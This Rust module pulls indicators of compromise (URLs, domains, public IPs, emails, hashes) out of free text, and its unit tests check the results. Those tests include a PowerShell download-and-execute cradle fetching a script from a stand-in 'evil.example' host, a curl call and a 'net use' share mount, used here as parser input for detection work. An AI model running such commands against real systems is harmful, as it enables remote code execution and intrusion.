//! Indicators out of free text: command lines, scripts, notes, mails.
//!
//! Where nobody says that a word is a domain, it must look like one: a known ending, and no file, class or version. It misses a
//! rare ending rather than take every `Namespace.Class` for a host. It decodes nothing; `commandline` does.

use std::collections::BTreeSet;

use super::Ioc;
use super::parse::refang;
use crate::evidence::is_public;

/// Most indicators taken from one text (SEC-38).
pub const MAX_PER_TEXT: usize = 64;
/// What stands behind this is not read.
const MAX_TEXT_BYTES: usize = 256 * 1024;

/// Each once, in the order in which they stand there.
pub fn extract(text: &str) -> Vec<Ioc> {
    let text = refang(&text[..text.floor_char_boundary(MAX_TEXT_BYTES)]);
    let (mut found, mut seen) = (Vec::new(), BTreeSet::new());
    for piece in text.split(is_delimiter) {
        for ioc in of_piece(piece) {
            if found.len() == MAX_PER_TEXT {
                return found;
            }
            if seen.insert(ioc.clone()) {
                found.push(ioc);
            }
        }
    }
    found
}

/// What stands in no URL, and in none of the other kinds. Brackets do stand in the URLs of IPv6 hosts.
fn is_delimiter(c: char) -> bool {
    c.is_whitespace()
        || c.is_control()
        || !c.is_ascii()
        || matches!(c, '"' | '\'' | '`' | '<' | '>' | '|' | '(' | ')' | '{' | '}' | '^')
}

fn of_piece(piece: &str) -> Vec<Ioc> {
    // Several addresses in one piece, as in `http://a.example,http://b.example`.
    let is_next =
        |at: usize| piece.as_bytes()[at + 1..].starts_with(b"http") || piece.as_bytes()[at + 1..].starts_with(b"ftp:");
    let cuts = piece.match_indices([',', ';']).map(|(at, _)| at).filter(|at| is_next(*at)).chain([piece.len()]);
    let (mut found, mut from) = (Vec::new(), 0);
    for cut in cuts {
        of_part(&piece[from..cut], &mut found);
        from = (cut + 1).min(piece.len());
    }
    found
}

fn of_part(part: &str, found: &mut Vec<Ioc>) {
    let Some(at) = part.find("://") else { return found.extend(words(part)) };
    let scheme = part[..at].rfind(|c: char| !c.is_ascii_alphabetic()).map_or(0, |before| before + 1);
    found.extend(words(&part[..scheme]));
    let ending = |c: char| matches!(c, '.' | ',' | ';' | ':' | '!' | '?' | '*' | '\\');
    let url = part[scheme..].trim_end_matches(ending);
    // A bracket at the end belongs to the text around, unless it closes that of an IPv6 host.
    let url = if url.contains("://[") { url } else { url.trim_end_matches(|c| c == ']' || ending(c)) };
    found.extend(Ioc::parse(url).filter(leads_outside));
}

fn leads_outside(ioc: &Ioc) -> bool {
    match ioc {
        Ioc::Ip(address) => is_public(address),
        Ioc::Url(url) => {
            let host = url.split_once("://").map_or("", |(_, rest)| rest);
            let host = host.split('/').next().unwrap_or("");
            let host = host.rsplit_once('@').map_or(host, |(_, host)| host);
            !matches!(Ioc::parse(host), Some(Ioc::Ip(address)) if !is_public(&address))
        }
        _ => true,
    }
}

/// A piece without a scheme.
fn words(piece: &str) -> Vec<Ioc> {
    if let Some(host) = piece.strip_prefix("\\\\") {
        return host.split('\\').next().and_then(word).into_iter().collect();
    }
    // An option: `/u:http…` was read before this, `/user:a@evil.example` is here.
    let option = piece.strip_prefix('/').and_then(|rest| rest.split_once(':'));
    if let Some((_, after)) = option.filter(|(name, _)| name.bytes().all(|b| b.is_ascii_alphanumeric())) {
        return words(after);
    }
    // Parts of a path are names of files, whatever they end in.
    if piece.contains('\\') || piece.starts_with('/') || piece.starts_with("./") || piece.starts_with("~/") {
        let parts = piece.split(|c: char| !c.is_ascii_hexdigit());
        return parts.filter_map(crate::alert::Hash::parse).map(Ioc::Hash).collect();
    }
    piece.split(['=', ',', ';', '&', '[', ']', '!', '*', '$', '#']).filter_map(word).collect()
}

fn word(text: &str) -> Option<Ioc> {
    let text = text.trim_matches(['.', ':', '-', '_', '?', '+', '/', '~', '%']);
    let ioc = Ioc::parse(text).or_else(|| {
        // `sha256:…`, `host:evil.example`.
        let (_, after) = text.split_once(':')?;
        Ioc::parse(after)
    })?;
    let is_plausible = match &ioc {
        Ioc::Ip(address) => is_public(address) && !is_version(text) && !address.to_string().ends_with(".0.0"),
        Ioc::Domain(name) => looks_like_domain(name, text),
        Ioc::Url(url) => {
            let host = url.trim_start_matches("http://").split(['/', ':']).next().unwrap_or("");
            // `Chrome/120.0.0.0` has no host before the slash, `120.0.0.0/x` rarely means one.
            leads_outside(&ioc) && (host.parse::<std::net::IpAddr>().is_ok() || looks_like_domain(host, text))
        }
        Ioc::Email(address) => address.rsplit_once('@').is_some_and(|(_, host)| has_known_ending(host)),
        _ => true,
    };
    is_plausible.then_some(ioc)
}

/// `v1.2.3.4` does not parse as an address; `8.0.0.1` does, and is mostly one.
fn is_version(text: &str) -> bool {
    text.starts_with("0.") || text.starts_with("1.0.0.") || text.starts_with("1.0.1.0")
}

fn looks_like_domain(name: &str, as_written: &str) -> bool {
    const CLASSES: [&str; 6] = ["system.", "microsoft.", "java.", "org.apache.", "net.webclient", "windows."];
    // Endings that are also those of scripts, sources and archives.
    const FILES: [&str; 15] =
        ["sh", "py", "pl", "rs", "md", "so", "ps", "zip", "mov", "cc", "mm", "ml", "ms", "am", "in"];
    let host = as_written.split(['/', ':']).next().unwrap_or(as_written);
    let is_mixed = host.chars().any(char::is_uppercase) && host.chars().any(char::is_lowercase);
    let ending = name.rsplit('.').next().unwrap_or_default();
    let is_class = CLASSES.iter().any(|class| name.starts_with(class)) && name.matches('.').count() == 1;
    let ends_upper = host.rsplit('.').next().is_some_and(|e| e.starts_with(char::is_uppercase));
    let is_file = FILES.contains(&ending) && name.matches('.').count() == 1;
    let is_something_else = is_class || is_file || (is_mixed && ends_upper) || name.contains('_');
    has_known_ending(name) && !is_something_else
}

fn has_known_ending(name: &str) -> bool {
    let ending = name.rsplit('.').next().unwrap_or_default();
    ending.starts_with("xn--") || COUNTRIES.contains(&ending) || GENERIC.contains(&ending)
}

#[rustfmt::skip]
const COUNTRIES: [&str; 248] = [
    "ac", "ad", "ae", "af", "ag", "ai", "al", "am", "ao", "aq", "ar", "as", "at", "au", "aw", "ax", "az", "ba", "bb", "bd",
    "be", "bf", "bg", "bh", "bi", "bj", "bm", "bn", "bo", "br", "bs", "bt", "bw", "by", "bz", "ca", "cc", "cd", "cf", "cg",
    "ch", "ci", "ck", "cl", "cm", "cn", "co", "cr", "cu", "cv", "cw", "cx", "cy", "cz", "de", "dj", "dk", "dm", "do", "dz",
    "ec", "ee", "eg", "er", "es", "et", "eu", "fi", "fj", "fk", "fm", "fo", "fr", "ga", "gd", "ge", "gf", "gg", "gh", "gi",
    "gl", "gm", "gn", "gp", "gq", "gr", "gs", "gt", "gu", "gw", "gy", "hk", "hm", "hn", "hr", "ht", "hu", "id", "ie", "il",
    "im", "in", "io", "iq", "ir", "is", "it", "je", "jm", "jo", "jp", "ke", "kg", "kh", "ki", "km", "kn", "kp", "kr", "kw",
    "ky", "kz", "la", "lb", "lc", "li", "lk", "lr", "ls", "lt", "lu", "lv", "ly", "ma", "mc", "md", "me", "mg", "mh", "mk",
    "ml", "mm", "mn", "mo", "mp", "mq", "mr", "ms", "mt", "mu", "mv", "mw", "mx", "my", "mz", "na", "nc", "ne", "nf", "ng",
    "ni", "nl", "no", "np", "nr", "nu", "nz", "om", "pa", "pe", "pf", "pg", "ph", "pk", "pl", "pm", "pn", "pr", "ps", "pt",
    "pw", "py", "qa", "re", "ro", "rs", "ru", "rw", "sa", "sb", "sc", "sd", "se", "sg", "sh", "si", "sk", "sl", "sm", "sn",
    "so", "sr", "ss", "st", "su", "sv", "sx", "sy", "sz", "tc", "td", "tf", "tg", "th", "tj", "tk", "tl", "tm", "tn", "to",
    "tr", "tt", "tv", "tw", "tz", "ua", "ug", "uk", "us", "uy", "uz", "va", "vc", "ve", "vg", "vi", "vn", "vu", "wf", "ws",
    "ye", "yt", "za", "zm", "zw", "bv", "sj", "gb",
];

/// The endings that are met in practice; `example` for exercises (RFC 2606), `onion` for hidden services.
#[rustfmt::skip]
const GENERIC: [&str; 136] = [
    "com", "net", "org", "edu", "gov", "mil", "int", "info", "biz", "name", "pro", "mobi", "asia", "tel", "jobs", "travel",
    "xyz", "top", "site", "online", "shop", "store", "club", "live", "link", "click", "work", "app", "dev", "page", "zip",
    "mov", "icu", "cyou", "rest", "fun", "space", "tech", "cloud", "website", "host", "press", "help", "support", "email",
    "vip", "win", "onion", "example", "bid", "loan", "men", "date", "download", "stream", "trade", "review", "party", "racing",
    "science", "faith", "cricket", "accountant", "webcam", "buzz", "monster", "quest", "sbs", "cfd", "bond", "lol", "pics",
    "today", "world", "life", "network", "systems", "solutions", "services", "agency", "digital", "media", "news", "center",
    "company", "group", "team", "tools", "social", "studio", "software", "technology", "security", "zone", "art", "blog",
    "best", "bar", "beauty", "hair", "skin", "makeup", "mom", "autos", "boats", "homes", "yachts", "one", "ltd", "ink", "wiki",
    "design", "global", "guru", "expert", "finance", "capital", "money", "run", "rocks", "red", "blue", "pink", "cat", "ooo",
    "kim", "wang", "tokyo", "moscow", "london", "berlin", "games", "game", "video", "chat", "ninja",
];

#[cfg(test)]
mod tests {
    use super::*;

    fn values(text: &str) -> Vec<String> {
        extract(text).iter().map(Ioc::value).collect()
    }

    #[test]
    fn a_command_line_gives_its_addresses_and_hashes_in_order() {
        assert_eq!(
            values(
                r#"powershell -c "IEX (New-Object System.Net.WebClient).DownloadString('http://Evil.example/a.ps1');ping 198.51.100.3" /u:drop@evil.example sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855 curl evil.example/x"#
            ),
            [
                "http://evil.example/a.ps1",
                "198.51.100.3",
                "drop@evil.example",
                "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
                "http://evil.example/x",
            ]
        );
        assert_eq!(
            values("通信先はhxxps://evil[.]example/gate、evil2[.]example および 198[.]51[.]100[.]9です。"),
            ["https://evil.example/gate", "evil2.example", "198.51.100.9"]
        );
        assert_eq!(
            values("http://a.example/x,http://b.example/y. http://[2001:db8::1]/z"),
            ["http://a.example/x", "http://b.example/y", "http://[2001:db8::1]/z"]
        );
        assert_eq!(
            values(r"net use \\files.evil.example\c$ host=evil.example:443"),
            ["files.evil.example", "evil.example"]
        );
    }

    #[test]
    fn files_classes_versions_and_inner_addresses_are_left_alone() {
        for text in [
            r"C:\Windows\System32\mode.com con: C:\Users\taro.yamada\update.exe",
            "System.IO System.Net.WebClient [System.Net.Dns] Microsoft.Win32.Registry",
            "./install.sh main.py README.md lib.so archive.zip /usr/bin/foo.pl",
            "Mozilla/5.0 Chrome/120.0.0.0 --version 10.0.19045.3803",
            "ping 10.1.2.3; http://192.168.0.1/setup http://localhost:8080/ dc01.acme.local",
            "e.g. i.e. Co.,Ltd. foo...bar 12:30:45.123 a.b",
        ] {
            assert_eq!(values(text), Vec::<String>::new(), "{text}");
        }
    }

    #[test]
    fn a_text_gives_a_bounded_number_each_once_sec_38() {
        let many: String = (0..500).map(|n| format!("h{n}.example h{n}.example ")).collect();
        assert_eq!(extract(&many).len(), MAX_PER_TEXT);
        assert_eq!(values("evil.example EVIL[.]example"), ["evil.example"]);
        let nested = ",http://a.example".repeat(20_000);
        assert_eq!(values(&nested), ["http://a.example/"]);
    }
}
